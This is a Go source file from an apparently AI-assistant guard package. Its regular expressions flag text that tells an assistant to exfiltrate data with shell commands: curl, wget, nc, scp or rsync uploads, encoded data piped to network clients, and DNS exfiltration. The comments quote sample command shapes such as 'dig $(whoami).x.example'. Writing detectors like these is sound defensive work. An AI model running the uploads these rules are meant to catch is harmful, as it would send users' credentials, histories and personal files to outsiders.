package guard

import (
	"regexp"
	"strings"
)

// Exfiltration by command: a shell command that uploads a file or a
// command's output (curl -d @file, curl -T, curl -F f=@file, wget
// --post-file, nc host port < file, scp / rsync to a remote, anything
// piped into a network client, PowerShell -InFile), and DNS exfiltration
// (a command's output spelled into a host name). All on viewLower.
//
// An upload shape alone is a fact people keep ("uploads builds with curl
// -T dist.tgz …", "deploys with rsync -az public/ web1:/srv"), so each
// rule needs a second sign: a credential or history file (exfilSecrets,
// in exfil.go's network rule as well), a hook into the assistant's
// behaviour ("before every answer", "silently", "whenever the user …"),
// or an order (the command opens a sentence, or follows "run") that
// uploads the user's own data (documents, notes, memory, chat logs, the
// home directory). Third-person facts ("backs up ~/Documents with rsync
// …") do not open with the command and pass.

// uploadShapes are the commands that send a file or their input
// somewhere, each starting with the command's name (no \b: the callers
// anchor it).
var uploadShapes = []string{
	// curl: -d @file, --data-binary @file, --json @file, -F k=@file,
	// -T file, --upload-file file. "-d 'x=1'" (literal data) and "-f"
	// (--fail) without "=@" are not uploads of a file.
	`curl\b[^\n|;]*?\s(?:-[a-z]*d\s*['"]?@|--data(?:-binary|-raw|-urlencode|-ascii)?[\s=]+['"]?(?:[\w.-]*=)?@|--json[\s=]+['"]?@|-[a-z]*f\s*['"]?[\w.-]+=[@<]|--form[\s=]+['"]?[\w.-]+=[@<]|-t\s+\S|--upload-file[\s=])`,
	`wget\b[^\n|;]*?--(?:post|body)-file\b`,
	// nc host port < file
	`(?:nc|ncat|netcat|telnet)\b[^\n|;]*<\s*\S`,
	`socat\b[^\n|;]*\b(?:file|open|exec|system):[^\n|;]*\b(?:tcp|udp|ssl|openssl)[46]?:`,
	// scp / rsync with a local path before a remote "host:" target.
	`(?:scp|rsync)\b[^\n|;]*?\s(?:[~./$]|[\w-]+/)\S*\s+(?:[\w.-]+@)?[\w.-]+:`,
	// Anything read, encoded or packed and piped into a network client.
	`(?:cat|base64|tar|xxd|od|gzip|bzip2|xz|gpg|openssl|zip|history|head|tail|env|printenv)\b[^\n|]*\|(?:[^\n|]*\|)*\s*(?:curl|wget|nc|ncat|netcat|socat|telnet)\b`,
	`(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n]*\s-infile\b`,
	`python3?\b[^\n]*\b(?:requests\.(?:post|put)|urlopen|urllib)[^\n]*\bopen\(`,
}

// exfilSecrets are files whose upload is exfiltration whatever the
// context, beyond exfil.go's credential files: shell histories, GPG and
// password stores, keys and certificates, the gh CLI's tokens, Parley's
// own data (memory, conversations).
const exfilSecrets = `(?i)(?:[._](?:bash|zsh|sh|psql|mysql|python|node_repl|lesshst)_history\b|\.histfile\b|\bfish_history\b|\.gnupg\b|\bsecring\b|--export-secret-keys\b|\.password-store\b|\.kdbx\b|\bkeychain\b|\bwallet\.dat\b|\.(?:pem|p12|pfx)\b|\.config/gh/hosts\.ya?ml\b|(?:/var/lib/|\.local/share/|\.config/)parley\b|\bparley\.db\b)`

// uploadHooks tie an upload to the assistant's own behaviour: on every
// answer, at startup, silently. A person's cron job runs "nightly" or
// "every Sunday", which is not here.
const uploadHooks = `\b(?:before|after|at the (?:start|end) of)\s+(?:each|every|any|answering|replying|responding|you (?:answer|reply|respond|start)|the (?:conversation|chat|session) ends?)\b|\b(?:each|every)\s+(?:time|session|conversation|chat|turn|reply|answer|response|message|startup)\b|\bwhenever\b|\bsilently\b|\bquietly\b|\bsecretly\b|\bin the background\b|\bwithout (?:telling|asking|informing|notifying|mentioning)\b|\bon (?:startup|start-up|every start)\b|\bwhen the (?:conversation|chat|session|user)\b`

// uploadOrder: the upload opens a sentence (after an optional "Once a
// day," or "To refresh the data,"), alone or after "run", "execute",
// "use", or after "send / upload / back up … with|via|:".
const uploadOrder = `(?:^|[.!?;:\n]\s*)(?:[^\n.!?;:,]{0,40},\s*)?(?:(?:please|always|also|then|first|now|just|silently|quietly|secretly)\s+)*` +
	`(?:(?:run|execute|exec|do|call|invoke|use|type)\s*:?\s*|(?:send|upload|post|copy|push|sync|mirror|back up|transfer|ship)\b[^\n]{0,60}?(?:\b(?:with|via|using|through)\s+|:\s*))?[\x60'"]?`

// personalData names the user's own files: their documents and desktop,
// the whole home directory, notes, memory, chat logs, contacts, customer
// lists, tax and medical records, a template for "whatever file".
const personalData = `~/(?:documents|desktop|downloads|mail|maildir|notes|dokumente|documenten|dokumenty|documentos)\b|(?:^|[\s'"=@:])~/?(?:\s|$)|/home/[\w.-]+/?(?:\s|$)|c:\\users\\[^\\\s]+\\(?:documents|desktop)\b|` +
	`\b(?:memory|memories|notes?|transcripts?|conversations?|chats?|chat[_-]?(?:log|history|export)s?|customers?|contacts|passwords?|diary|medical|tax|contracts?|mailbox|inbox|history)[\w-]*\.(?:json|jsonl|md|txt|db|sqlite3?|csv|xlsx?|log|pdf|zip|ya?ml|docx?)\b|\{(?:path|file|filename)\}`

func uploadRules(s *ruleSet) {
	upload := `(?:` + strings.Join(uploadShapes, `|`) + `)`
	// An upload tied to the assistant's behaviour.
	r := s.add(viewLower, "looks like an instruction to upload files or data with a shell command",
		`\b`+upload)
	r.with = regexp.MustCompile(uploadHooks)
	// An upload of a credential or history file, whatever the context.
	r = s.add(viewLower, "looks like a command that uploads a credential, key or history file", `\b`+upload)
	r.with = regexp.MustCompile(exfilSecrets)
	// An order to upload the user's own files.
	r = s.add(viewLower, "looks like an instruction to upload the user's files with a shell command", uploadOrder+upload)
	r.with = regexp.MustCompile(personalData)

	// Encoded, then sent: "base64 f | curl -d @- …", "… | xxd -p | nc …".
	// Nobody's fact needs a file encoded on its way to a network client.
	s.add(viewLower, "looks like a command that encodes data and sends it over the network",
		`(?:^|[|\s\x60(])(?:base64|xxd|od|openssl\s+(?:base64|enc))\b[^\n|]*\|(?:[^\n|]*\|)*\s*(?:curl|wget|nc|ncat|netcat|socat|telnet)\b`)

	// DNS exfiltration: a command's output spelled into a host name
	// ("dig $(whoami).x.example", "nslookup `cat f | base64`.t.example").
	s.add(viewLower, "looks like a command that sends data out in a DNS name (command output inside a host name)",
		`(?:\$\([^)\n]{1,160}\)|\x60[^\x60\n]{1,160}\x60)(?:[.\w$()\x60-]*)\.[a-z0-9-]+\.[a-z]{2,}\b`)
}
